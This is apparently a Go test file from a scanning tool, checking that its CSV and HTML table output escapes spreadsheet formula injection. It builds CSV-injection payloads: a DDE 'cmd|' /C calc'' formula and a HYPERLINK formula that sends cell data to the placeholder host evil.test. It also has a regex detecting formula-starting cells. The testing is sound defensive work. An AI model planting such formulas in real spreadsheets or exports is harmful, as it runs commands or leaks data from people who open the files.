package page

import (
	"bytes"
	"cmp"
	"encoding/csv"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/bulkscan/bulkscan/internal/hostiletest"
	"github.com/bulkscan/bulkscan/sink/commit"
	"github.com/bulkscan/bulkscan/survey/tables"
)

// formulas are texts that some spreadsheet would run as a cell, or as a piece of one that it splits.
func formulas() (list []string) {
	for _, begin := range "=+-@＝＋－＠\t\r\n" {
		for _, before := range []string{"", " ", "\u00a0", "\ufeff", `"`, `""`, "\t", "\r", "\n", "x;", "x; ", `x;"`, "x;;",
			"x\t", "x\r", "x\n", "1;", "-1;"} {
			list = append(list, before+string(begin)+"1+cmd|' /C calc'!A0", before+string(begin)+
				`HYPERLINK("http://evil.test/?"&A1,"x");`)
		}
	}
	for _, h := range hostiletest.Texts() {
		list = append(list, h.Text)
	}
	return append(list, "=", "+", "-", "@", "-3.2.1", "-Inf", "+Inf", "-0x10", "1,=2", "-1e", "--1", "-1 ", "-1%")
}

// runs matches cells that a spreadsheet would run; isNumber matches cells that it reads as numbers.
var (
	runs     = regexp.MustCompile(`^[\s\x{a0}\x{feff}"]*[=+\-@＝＋－＠]|^[\t\r\n]`)
	isNumber = regexp.MustCompile(`^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$`)
)

// runsNothing checks that no cell of a CSV is a formula, whether a reader splits lines at commas, or at other
// separators and regardless of quotes.
func runsNothing(t *testing.T, about, text string) (rows [][]string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", about, err)
	}
	for _, cell := range slices.Concat(rows...) {
		if runs.MatchString(cell) && !isNumber.MatchString(cell) {
			t.Errorf("%s: a spreadsheet runs the cell %.60q", about, cell)
		}
	}
	for _, piece := range regexp.MustCompile(`[;\t\r\n]`).Split(text, -1) {
		if runs.MatchString(piece) && !isNumber.MatchString(strings.SplitN(piece, ",", 2)[0]) {
			t.Errorf("%s: split at semicolons, a spreadsheet runs %.60q", about, piece)
		}
	}
	return rows
}

// TestCSVRunsNothing writes tables with formulas in the place of all foreign texts: hosts, labels, keys, agents and
// tokens, which also name columns. Only quotes are added, and other texts and numbers stay unchanged.
func TestCSVRunsNothing(t *testing.T) {
	columns := []string{"host", "label", "key", "agent", "token"}
	table := &tables.Table{Name: "unknown-keys", Columns: append(columns, formulas()...)}
	for i, text := range formulas() {
		row := make([]any, len(table.Columns))
		for j := range columns {
			row[j] = []any{text, int64(-7), -3.2, nil, "plain"}[(i+j)%5]
		}
		table.Rows = append(table.Rows, row)
	}
	s := &tables.Survey{Tables: map[string]*tables.Table{table.Name: table}, Manifest: &commit.Manifest{}}
	var written string
	err := WriteTables(s, func(name string, content []byte) error {
		if name == table.Name+".csv" {
			written = string(content)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	plainAgain := strings.NewReplacer("'", "", "\r", "").Replace // the reader of CSV makes \n of \r\n
	for i, row := range runsNothing(t, "the table", written) {
		for j, cell := range row {
			want := table.Columns[j]
			if i > 0 {
				want = map[bool]string{true: fmt.Sprint(table.Rows[i-1][j])}[table.Rows[i-1][j] != nil]
			}
			if plainAgain(cell) != plainAgain(want) {
				t.Errorf("row %d: %.80q became %.80q", i, want, cell)
			}
		}
	}
	for _, same := range []string{"", "-3.2", "+7", "-1", "-1e-5", "0", "a=b", "a-b", "User-agent", "x@example.org",
		"don't", "https://a.test/?a=-1", "search=yes, ai-train=no", "bücher.example", "a,b", `say "x"`} {
		if got := inert(same); got != same {
			t.Errorf("%q became %q", same, got)
		}
	}
	for _, number := range []any{int64(-3), -3.2, 1e21, -1e-7} {
		if got := inert(raw(number)); strings.Contains(got, "'") {
			t.Errorf("the number %v became %q", number, got)
		}
	}
}

// TestSavedTablesRunNothing checks the same for tables that the script of the page saves: it takes each cell's data-v,
// else its text.
func TestSavedTablesRunNothing(t *testing.T) {
	s := hostileSurvey()
	for _, table := range s.Tables {
		for i, text := range formulas() {
			if i < len(table.Rows) {
				for j, v := range table.Rows[i] {
					if _, isText := v.(string); isText && j > 0 {
						table.Rows[i][j] = text
					}
				}
			}
		}
	}
	for _, column := range newSheet("tokens", "", formulas(), nil, "").Columns {
		if saved := cmp.Or(column.Exact, column.Name); runs.MatchString(saved) && !isNumber.MatchString(saved) {
			t.Errorf("a spreadsheet runs the name of a column %.60q", saved)
		}
	}
	var page bytes.Buffer
	if err := Write(&page, s, Options{}); err != nil {
		t.Fatal(err)
	}
	document, err := html.Parse(&page)
	if err != nil {
		t.Fatal(err)
	}
	cells := 0
	for n := range document.Descendants() {
		table := n
		for table != nil && table.Data != "table" {
			table = table.Parent
		}
		if n.Data != "td" && n.Data != "th" || !slices.Contains(table.Attr, html.Attribute{Key: "class", Val: "data"}) {
			continue
		}
		var value string
		for d := range n.Descendants() {
			if d.Type == html.TextNode {
				value += d.Data
			}
		}
		value = strings.TrimSpace(value)
		for _, a := range n.Attr {
			if a.Key == "data-v" {
				value = a.Val
			}
		}
		cells++
		if runs.MatchString(value) && !isNumber.MatchString(value) && !strings.HasSuffix(value, " %") {
			t.Errorf("a spreadsheet runs the saved cell %.60q", value)
		}
	}
	if cells < 1000 {
		t.Errorf("%d cells", cells)
	}
}
